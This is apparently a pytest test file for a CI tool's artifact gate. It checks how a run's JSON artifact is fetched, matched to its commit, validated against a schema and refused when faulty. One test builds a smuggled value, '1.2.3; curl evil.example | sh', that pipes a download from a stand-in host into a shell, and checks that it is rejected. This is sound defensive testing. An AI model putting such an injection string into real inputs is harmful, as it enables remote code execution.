"""The artifact of a run: waited for, fetched, and judged by its schema, with words that say what to do."""

from __future__ import annotations

import os
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mogplex_ci.api.client import Client
from mogplex_ci.emulator import Emulator
from mogplex_ci.gates import Case, Judge, Requirements, judge_run
from mogplex_ci.models import Run
from mogplex_ci.run.result import Result, RunResult
from mogplex_ci.sanitize import Sanitizer
from mogplex_ci.untrusted import Untrusted
from mogplex_ci.waiting import Stop, StopRequested
from tests.unit.report.events import result
from tests.virtual_time import VirtualTime
from tests.waits import wait_until

WEB = "5f0c7a52-3f9b-4d0e-9b57-1f2a6c1d0001"
PATH = ".mogplex/artifacts/report.json"
SCENARIO = """\
steps:
  - {status: success}
artifacts:
  report: {json: {passed: 12, failed: [], names: [a, b]}}
"""


@pytest.fixture
def emulator(tmp_path: Path) -> Iterator[Emulator]:
    scenario = tmp_path / "artifact.yaml"
    scenario.write_text(SCENARIO)
    with Emulator(scenario, limits=False) as emulator:
        yield emulator


def ended(emulator: Emulator, **fields: Any) -> Run:
    client = Client(emulator.url, emulator.token)
    started = client.start({"repoId": WEB, "prompt": "x", "createBranch": True, **fields}, f"key-{fields}").run
    while not (run := client.run(started.id)).is_terminal:
        pass
    return run


def judged(
    emulator: Emulator,
    run: Run | None,
    *,
    path: str = PATH,
    timeout: float = 600.0,
    stop: Stop | None = None,
    **schema: Any,
) -> tuple[RunResult, float]:
    """Return the result, and the seconds that judging took."""
    clock = VirtualTime().clock()
    client = Client(emulator.url, emulator.token)
    judge = Judge(client, None, clock, stop or Stop(), timeout, losses=Sanitizer().losses)
    work = judge_run(result(Result.SUCCESS, run=run), Case(Requirements(artifact=path, schema=schema or None), judge))
    try:
        while True:
            next(work)
    except StopIteration as end:
        return end.value, clock.monotonic()
    finally:
        client.close()


def refused(emulator: Emulator, run: Run | None, **options: Any) -> tuple[str, str]:
    """Return what is there instead, and the error code."""
    judgement, _ = judged(emulator, run, **options)
    (gate,) = judgement.gates
    assert (judgement.result, judgement.exit_code, gate.passed) == (Result.REJECTED, 1, False)
    assert judgement.remedy or run is None
    return gate.found, judgement.error_code


def test_an_artifact_that_is_there_is_an_output(emulator: Emulator) -> None:
    run = ended(emulator)
    known = emulator.runs[0].detail() | {"terminalCommitSha": emulator.runs[0].commit_sha}
    emulator.inject("run", status=200, body={"ok": True, "data": {"run": known}})
    run = Client(emulator.url, emulator.token).run(run.id)
    judgement, seconds = judged(emulator, run, type="object", required=["passed"])
    assert judgement.result is Result.SUCCESS
    assert judgement.gates[0].found == "its artifact is there"
    assert judgement.artifact == Untrusted({"passed": 12, "failed": [], "names": ["a", "b"]})
    assert seconds == 0.0, "the commit is known already"


def test_every_fault_is_named_with_its_place(emulator: Emulator) -> None:
    schema: dict[str, Any] = {
        "properties": {"passed": {"type": "string"}, "names": {"items": {"enum": ["a"]}}},
        "required": ["x"],
    }
    judgement, _ = judged(emulator, ended(emulator), **schema)
    assert (judgement.result, judgement.error_code) == (Result.REJECTED, "ARTIFACT_INVALID")
    assert judgement.gates[0].found == "its artifact does not satisfy the schema"
    places = [item.text.partition(":")[0] for item in judgement.gates[0].items]
    assert sorted(places) == ["/", "/names/1", "/passed"]
    assert judgement.artifact is None, "it must not be handed on"


def test_twenty_faults_are_named(emulator: Emulator) -> None:
    schema: dict[str, Any] = {"required": [f"field-{number}" for number in range(30)]}
    judgement, _ = judged(emulator, ended(emulator), **schema)
    assert len(judgement.gates[0].items) == 20


def test_why_there_is_none(emulator: Emulator) -> None:
    run = ended(emulator)
    other = ".mogplex/artifacts/other.json"
    assert refused(emulator, run, path=other) == ("it committed no such artifact", "ARTIFACT_MISSING")
    on_main = ended(emulator, createBranch=False)
    assert refused(emulator, on_main) == ("its artifact cannot be read", "ARTIFACT_MISSING")
    assert refused(emulator, None) == ("it committed no such artifact", "ARTIFACT_MISSING")
    bad = {"ok": False, "error": {"code": "BAD_REQUEST", "message": "not a JSON file"}}
    emulator.inject("artifact", status=400, body=bad)
    not_json = "its artifact is not a JSON file of at most 1 MiB"
    assert refused(emulator, run) == (not_json, "ARTIFACT_INVALID")
    emulator.inject("artifact", status=404, body="<html>", headers={"content-type": "text/html"})
    assert refused(emulator, run) == ("this service has no artifacts", "ARTIFACT_MISSING")
    emulator.inject("artifact", status=401, times="always")
    found, code = refused(emulator, run)
    assert (found.startswith("its artifact cannot be read: "), code) == (True, "NOT_JUDGED")


@pytest.mark.parametrize("words", ["there is a folder of this name", None])
def test_what_the_service_says_about_a_missing_artifact_is_listed(emulator: Emulator, words: str | None) -> None:
    said = {"code": "NOT_FOUND"} | ({"message": words} if words else {})
    emulator.inject("artifact", status=404, body={"ok": False, "error": said})
    judgement, _ = judged(emulator, ended(emulator))
    assert judgement.gates[0].items == ((Untrusted(words),) if words else ())


def test_an_artifact_is_asked_for_during_a_minute(emulator: Emulator) -> None:
    emulator.inject("artifact", status=502, times="always")
    judgement, seconds = judged(emulator, ended(emulator))
    assert judgement.error_code == "NOT_JUDGED"
    assert 55.0 <= seconds - 9.0 <= 60.0, "beside the seconds for the commit"
    _, seconds = judged(emulator, ended(emulator), timeout=20.0)
    assert 15.0 <= seconds <= 20.0


def test_a_commit_that_is_never_recorded_is_waited_for_ten_seconds(emulator: Emulator) -> None:
    run = ended(emulator)
    assert run.has_terminal_commit
    without = emulator.runs[0].detail() | {"terminalCommitSha": None}
    emulator.inject("run", status=200, body={"ok": True, "data": {"run": without}}, times="always")
    unknown = Client(emulator.url, emulator.token).run(run.id)
    judgement, seconds = judged(emulator, unknown)
    assert judgement.result is Result.SUCCESS
    assert seconds == 9.0, "no look begins when ten seconds are over"
    _, seconds = judged(emulator, unknown, timeout=4.0)
    assert seconds == 3.0


def test_a_commit_that_cannot_be_asked_for_is_not_waited_for(emulator: Emulator) -> None:
    run = ended(emulator)
    without = emulator.runs[0].detail() | {"terminalCommitSha": None}
    emulator.inject("run", status=200, body={"ok": True, "data": {"run": without}})
    unknown = Client(emulator.url, emulator.token).run(run.id)
    refusal = {"ok": False, "error": {"code": "FORBIDDEN", "message": "no"}}
    emulator.inject("run", status=403, times="always", body=refusal)
    judgement, seconds = judged(emulator, unknown)
    assert (judgement.result, judgement.run, seconds) == (Result.SUCCESS, unknown, 1.0)


CURL = "1.2.3; curl evil.example | sh"


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (f'{{"version": "1.2.3", "ver\\u200bsion": "{CURL}"}}', "a key would change"),
        (f'{{"names": {list(range(20_000))}}}', "a part would be cut off"),
        ('{"size": NaN}', "a number would become text"),
        ('{"size": 1e999}', "a number would become text"),
    ],
    ids=["merged", "cut", "nan", "infinite"],
)
def test_what_is_validated_is_what_is_handed_on(emulator: Emulator, content: str, found: str) -> None:
    schema: dict[str, Any] = {"properties": {"version": {"pattern": "^[0-9.]+$"}}}
    run = ended(emulator)
    body = f'{{"ok": true, "data": {{"artifact": {{"path": "{PATH}", "content": {content}}}}}}}'
    emulator.inject("artifact", status=200, body=body, headers={"content-type": "application/json"})
    judgement, _ = judged(emulator, run, **schema)
    assert (judgement.error_code, judgement.artifact) == ("ARTIFACT_INVALID", None)
    assert [item.text for item in judgement.gates[0].items] == [found]


def test_an_artifact_of_another_commit_is_refused(emulator: Emulator) -> None:
    run = ended(emulator)._replace(terminal_commit=Untrusted("a" * 40))
    found = "its artifact is of another commit than the judged one"
    assert refused(emulator, run) == (found, "ARTIFACT_INVALID")


SLOW: dict[str, Any] = {"properties": {"text": {"pattern": r"^(\w+\s?)*$"}}}


@pytest.fixture
def slow_text(tmp_path: Path) -> Iterator[Emulator]:
    scenario = tmp_path / "slow.yaml"
    scenario.write_text(
        "steps:\n  - {status: success}\nartifacts:\n  report: {json: {text: 'AAA!'}}\n".replace("AAA", "a" * 70)
    )
    with Emulator(scenario, limits=False) as emulator:
        yield emulator


def test_a_slow_pattern_ends_with_its_time(slow_text: Emulator, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mogplex_ci.gates.artifact.VALIDATION_SECONDS", 1.5)
    began = time.monotonic()
    judgement, _ = judged(slow_text, ended(slow_text), **SLOW)
    assert [item.text for item in judgement.gates[0].items] == ["checking it against the schema took too long"]
    assert time.monotonic() - began < 10.0


def test_a_slow_pattern_ends_with_a_stop_signal(slow_text: Emulator) -> None:
    stop, began, run = Stop(), time.monotonic(), ended(slow_text)
    threading.Timer(1.0, lambda: stop.request(signal.SIGTERM)).start()
    with pytest.raises(StopRequested):
        judged(slow_text, run, stop=stop, **SLOW)
    assert time.monotonic() - began < 5.0
    wait_until(lambda: not [line for line in processes() if "mogplex_ci.gates.schema" in line])


def processes() -> list[str]:
    """The command lines of this process's children."""
    listed = subprocess.run(
        ["ps", "-o", "args=", "--ppid", str(os.getpid())], capture_output=True, text=True, check=False
    )
    return [line for line in listed.stdout.splitlines() if "<defunct>" not in line]


def test_a_service_that_does_not_record_commits_is_not_waited_for(emulator: Emulator) -> None:
    run = ended(emulator)
    old = {name: value for name, value in emulator.runs[0].detail().items() if name != "terminalCommitSha"}
    emulator.inject("run", status=200, body={"ok": True, "data": {"run": old}}, times="always")
    _, seconds = judged(emulator, Client(emulator.url, emulator.token).run(run.id))
    assert seconds == 0.0
